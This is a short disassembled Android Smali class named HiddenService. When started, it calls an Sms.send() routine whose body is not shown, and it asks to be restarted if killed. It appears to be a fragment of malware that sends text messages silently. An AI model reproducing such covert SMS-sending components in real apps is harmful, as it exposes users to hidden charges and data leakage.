.class public Lcom/m/HiddenService;
.super Landroid/app/Service;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Service;-><init>()V
    return-void
.end method

.method public onStartCommand(Landroid/content/Intent;II)I
    .registers 4
    invoke-static {}, Lcom/m/Sms;->send()V
    const/4 v0, 0x1
    return v0
.end method
